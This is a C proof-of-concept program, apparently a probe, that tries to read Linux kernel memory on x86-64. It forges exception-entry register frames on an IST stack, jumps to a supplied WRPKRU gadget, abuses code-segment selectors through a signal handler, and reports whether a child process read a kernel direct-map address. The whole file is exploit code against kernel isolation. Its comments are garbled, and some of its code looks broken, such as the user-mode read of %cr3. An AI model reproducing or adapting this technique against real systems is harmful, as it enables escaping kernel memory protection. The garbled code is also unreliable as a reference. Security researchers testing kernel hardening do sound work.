/* A program pretends to be an entry of the kernel's, or has the kernel return to where it should not, and then reads the
 * kernel's memory. Prints "read" if a child could. usage: kernel-forged paranoid|error WRPKRU RETURN, out WRPKRU, selector, or none: reads at once */
#define _GNU_SOURCE
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>
#include "entry-area.h"

#define KERNEL_CS 0x10		/* asm/segment.h */
#define KERNEL_DS 0x18
#define USER32_CS 0x23
#define USER_CS 0x33
#define USER_DS 0x2b
#define PT_REGS 21		/* words of asm/ptrace.h's struct */

/* Where a read has succeeded; the address to read; and the stack for that. */
static volatile uint64_t *flag;
uint64_t forged_address, forged_flag;
static uint64_t stack[4096] __attribute__((aligned(4096)));

/* A system call could close the key: so it says it by memory, and ends by an exception. */
__asm__(".pushsection .text\n"
	"forged_landing:\n\tmovabs forged_address, %rax\n\tmov (%rax), %rdx\n\tmovabs forged_flag, %rax\n\tmovq $1, (%rax)\n\tud2\n"
	".code32\nforged_landing32:\n\tljmp $0x33, $forged_landing\n.code64\n"
	".popsection");
extern char forged_landing[], forged_landing32[];

static void jump(uint64_t to, uint64_t sp, uint64_t rax)
{
	__asm__ volatile("mov %0, %%rsp\n\txor %%r14d, %%r14d\n\tmov $1, %%ebx\n\tjmp *%1"
			 : : "r"(sp), "r"(to), "a"(rax), "c"(0ul), "d"(0ul) : "memory");
	__builtin_unreachable();
}

/* A return address and pt_regs, as an entry has them there. */
static void entry(uint64_t wrpkru, uint64_t return_to, uint64_t cs, uint64_t ss)
{
	uint64_t *top = ist_stack(IST_DB), *regs = top - PT_REGS;

	memset(regs, 0, PT_REGS * 8);
	regs[16] = (uint64_t)forged_landing;
	regs[17] = cs;
	regs[18] = 0x202;
	regs[19] = (uint64_t)&stack[2048];
	regs[20] = ss;
	regs[-1] = return_to;
	jump(wrpkru, (uint64_t)&regs[-1], 0);
}

static void on_signal(int number, siginfo_t *info, void *context)
{
	greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;

	(void)number;
	(void)info;
	registers[REG_RIP] = (greg_t)(uint64_t)forged_landing32;
	registers[REG_CSGSFS] = (registers[REG_CSGSFS] & ~0xffffl) | USER32_CS;
}

static void selector(void)
{
	struct sigaction action = { .sa_sigaction = on_signal, .sa_flags = SA_SIGINFO };

	sigaction(SIGUSR1, &action, NULL);
	raise(SIGUSR1);
}

int main(int argc, char **argv)
{
	uint64_t wrpkru = argc > 2 ? strtoull(argv[2], NULL, 16) : 0, return_to = argc > 3 ? strtoull(argv[3], NULL, 16) : 0;
	int status;

	if (argc < 2)
		return 2;
	flag = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	forged_flag = (uint64_t)flag;
	forged_address = 0xffff888000100000;
	*flag = 0;
	if (fork() == 0) {
		if (strcmp(argv[1], "paranoid") == 0) {
			entry(wrpkru, return_to, KERNEL_CS, KERNEL_DS);
		} else if (strcmp(argv[1], "error") == 0) {
			entry(wrpkru, return_to, USER_CS, USER_DS);
		} else if (strcmp(argv[1], "out") == 0) {
			/* Closed is what everything has, but not what only page tables have: read one. */
			__asm__ volatile("mov %%cr3, %0" : "=r"(forged_address));
			forged_address = 0xffff888000000000 + (forged_address & 0xffffffffff000);
			stack[2048] = (uint64_t)forged_landing;
			jump(wrpkru, (uint64_t)&stack[2048], 0x40000000);
		} else if (strcmp(argv[1], "selector") == 0) {
			selector();
		} else if (strcmp(argv[1], "none") == 0) {
			jump((uint64_t)forged_landing, (uint64_t)&stack[2048], 0);
		}
		_exit(2);
	}
	wait(&status);
	printf("%s, %s\n", *flag ? "read" : "not read", WIFSIGNALED(status) ? sigabbrev_np(WTERMSIG(status)) : "ended");
	return 0;
}
